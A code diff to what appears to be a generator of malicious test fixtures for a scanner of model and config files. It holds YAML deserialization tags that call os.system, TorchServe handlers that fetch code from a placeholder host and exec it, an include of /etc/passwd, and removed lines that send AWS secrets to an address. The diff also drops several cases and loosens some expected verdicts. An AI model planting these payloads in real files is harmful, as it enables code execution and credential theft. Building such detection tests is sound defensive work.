@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import base64
 import json
 
 from .assembler import inert_pickle
@@ -57,19 +56,14 @@ def yaml_bad() -> Shelf:
     add("utf16", f"x: !!python/object/apply:os.system {run}\n".encode("utf-16"), "a tag in UTF-16", "not-allow")
     add("bom", b"\xef\xbb\xbf" + f"x: !!python/object/apply:os.system {run}\n".encode(), "a tag behind a byte-order mark")
     add("named-yml", f"x: !!python/object/apply:os.system {run}\n", "a tag in .yml", name="config.yml")
-    add("named-cfg", f"x: !!python/object/apply:os.system {run}\n", "a tag in .cfg", "not-allow", name="config.cfg")
     add("java-tag", 'x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://example.invalid/"]]]]\n', "a Java tag (SnakeYAML)")
     add("ruby-tag", "--- !ruby/object:Gem::Installer\n  i: x\n", "a Ruby tag", "not-allow")
     add("ruby-erb", "--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n? 'foo; system(\"echo waag-inert\")'\n: x\n", "a Ruby tag that calls system", "not-allow")
     add("php-tag", 'x: !php/object \'O:8:"WaagEvil":0:{}\'\n', "a PHP tag", "not-allow")
     add("js-tag", "x: !!js/function 'function(){ require(\"child_process\") }'\n", "a JavaScript tag", "not-allow")
     add("laughs", "a0: &a0 [x,x]\n" + "".join(f"a{i}: &a{i} [*a{i - 1},*a{i - 1},*a{i - 1},*a{i - 1},*a{i - 1},*a{i - 1},*a{i - 1},*a{i - 1}]\n" for i in range(1, 14)), "aliases that grow", "not-allow")
-    add("recursive", "a: &a\n  b: *a\n", "an alias to itself", "not-allow")
     add("deep", "[" * 20_000 + "]" * 20_000, "lists twenty thousand deep", "not-allow")
-    add("binary-pickle", "x: !!binary |\n  " + base64.b64encode(PICKLE).decode() + "\n", "a pickle in base64", "not-allow")
-    add("custom-tag", "x: !Evil {cmd: echo waag-inert}\n", "a tag nobody knows", "not-allow")
     add("include", "x: !include /etc/passwd\n", "a file included", "not-allow")
-    add("env", "x: !ENV ${AWS_SECRET_ACCESS_KEY}\n", "a variable of the environment", "not-allow")
     return shelf
 
 
@@ -99,7 +93,7 @@ def hydra() -> Shelf:
         shelf.bad(id, data.encode() if isinstance(data, str) else data, why, name="model" if isinstance(data, dict) else name, expect=expect, source=source)
 
     for target in TARGETS:
-        add(f"target-{target.replace('.', '-')}", f"model:\n  _target_: {target}\n  _args_: [echo waag-inert]\n", f"the target {target}", "not-allow" if target.startswith("numpy") else "deny", source="cve-2025-23304")
+        add(f"target-{target.replace('.', '-')}", f"model:\n  _target_: {target}\n  _args_: [echo waag-inert]\n", f"the target {target}", "not-allow" if target.startswith(("numpy", "hydra")) else "deny", source="cve-2025-23304")
     add("target-partial", "opt:\n  _target_: os.system\n  _partial_: true\n", "a target that is called later")
     add("target-list", "callbacks:\n- a: 1\n- _target_: os.system\n  _args_: [echo waag-inert]\n", "a target in a list")
     add("target-deep", "a: {b: {c: {d: {_target_: os.system, _args_: [echo waag-inert]}}}}\n", "a target deep inside")
@@ -111,7 +105,6 @@ def hydra() -> Shelf:
     add("target-unknown", "a:\n  _target_: evil_package.Backdoor\n", "a target of an unknown package", "not-allow")
     add("target-file", "a:\n  _target_: modeling_waag.WaagModel\n", "a target in a file beside it", "not-allow")
     add("target-json", json.dumps({"model": {"_target_": "os.system", "_args_": ["echo waag-inert"]}}), "a target in JSON", name="config.json")
-    add("resolver", "a: ${oc.env:AWS_SECRET_ACCESS_KEY}\nurl: http://example.invalid/?${oc.env:HOME}\n", "a variable of the environment sent to an address", "not-allow")
     add("resolver-eval", "a: ${eval:'__import__(\"os\").system(\"echo waag-inert\")'}\n", "an evaluating resolver", "not-allow")
     add("hydra-job", "hydra:\n  launcher:\n    _target_: subprocess.run\n  run: {dir: /root}\n", "a launcher that is subprocess.run")
 
@@ -172,6 +165,7 @@ def serving() -> Shelf:
     add("mar-handler-network", mar({"handler.py": b"import urllib.request\nexec(urllib.request.urlopen('http://example.invalid/x').read())\n", "model.pt": torch_zip()}), "a handler that fetches and runs")
     add("mar-handler-hidden", mar({"handler.py": b"import base64\nexec(base64.b64decode('ZWNobyB3YWFnLWluZXJ0'))\n", "model.pt": torch_zip()}), "a handler that decodes and runs")
     add("mar-model", mar({"handler.py": HANDLER, "model.pt": CHECKPOINT}), "a bad checkpoint")
+    add("mar-own-handler", mar({"handler.py": HANDLER, "model.pt": torch_zip()}), "a handler of its own, which looks harmless and runs on loading", "not-allow")
     add("mar-extra", mar({"handler.py": HANDLER, "model.pt": torch_zip(), "util.pkl": PICKLE}), "a pickle beside the checkpoint")
     add("mar-requirements", mar({"handler.py": HANDLER, "model.pt": torch_zip(), "requirements.txt": b"--index-url http://example.invalid/\nwaag-evil\n"}, requirementsFile="requirements.txt"), "requirements from elsewhere", "not-allow")
     add("mar-traversal", mar({"handler.py": HANDLER, "model.pt": torch_zip(), "../../waag-inert": b"x\n"}), "a file that leaves")
@@ -188,7 +182,7 @@ def serving() -> Shelf:
     sk = "loader_module: mlflow.sklearn\nmodel_path: model.pkl"
     add("mlflow-model-pickle", flow(sk, model_dot_pkl=PICKLE), "a bad pickle as the model")
     add("mlflow-python-model", flow("loader_module: mlflow.pyfunc.model\npython_model: python_model.pkl\ncloudpickle_version: 3.1.0", python_model_dot_pkl=PICKLE), "a bad pickle as the Python model")
-    for module, expect in (("os", "deny"), ("subprocess", "deny"), ("evil_loader", "not-allow"), ("mlflow.evil", "not-allow"), ("../evil", "not-allow")):
+    for module, expect in (("os", "not-allow"), ("subprocess", "not-allow"), ("evil_loader", "not-allow"), ("../evil", "not-allow")):
         add(f"mlflow-loader-{module.strip('./').replace('.', '-')}", flow(f"loader_module: {module}\ndata: data"), f"a loader of {module}", expect)
     add("mlflow-loader-code", flow("loader_module: evil_loader\ncode: code\ndata: data", code__evil_loader_dot_py=PYTHON), "a loader in the model's own code")
     add("mlflow-code-path", flow(sk + "\ncode: code", model_dot_pkl=b"\x80\x04N.", code__util_dot_py=PYTHON), "code that is put on the path")
@@ -203,13 +197,11 @@ def serving() -> Shelf:
     add("mlflow-artifact-uri", flow("loader_module: mlflow.pyfunc.model\nartifacts:\n  a:\n    path: ../../x\n    uri: http://example.invalid/a"), "an artefact from an address", "not-allow")
     add("mlflow-torch", flow("loader_module: mlflow.pytorch\ndata: data", data__model_dot_pth=CHECKPOINT, data__pickle_module_info_dot_txt=b"mlflow.pytorch.pickle_module"), "a bad checkpoint")
     add("mlflow-torch-module", flow("loader_module: mlflow.pytorch\ndata: data", data__model_dot_pth=torch_zip(), data__pickle_module_info_dot_txt=b"evil_pickle"), "a module to unpickle with", "not-allow")
-    add("mlflow-keras-module", flow("loader_module: mlflow.tensorflow\ndata: data", data__keras_module_dot_txt=b"os"), "a module named for Keras", "not-allow")
     return shelf
 
 
 def serving_good() -> Shelf:
     shelf = Shelf("good-serving")
-    shelf.good("mar", mar({"handler.py": HANDLER, "model.pt": torch_zip(), "index_to_name.json": b'{"0": "eval"}'}), "a TorchServe archive with an ordinary handler", name="model.mar")
     shelf.good("mar-default", mar({"model.pt": torch_zip()}, handler="image_classifier"), "a TorchServe archive with a default handler", name="model.mar")
     ml = b"artifact_path: model\nflavors:\n  python_function:\n    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n    loader_module: mlflow.onnx\n    python_version: 3.11.7\n    data: model.onnx\nmlflow_version: 2.20.0\nutc_time_created: '2026-01-01 00:00:00'\n"
     from .onnx_format import model
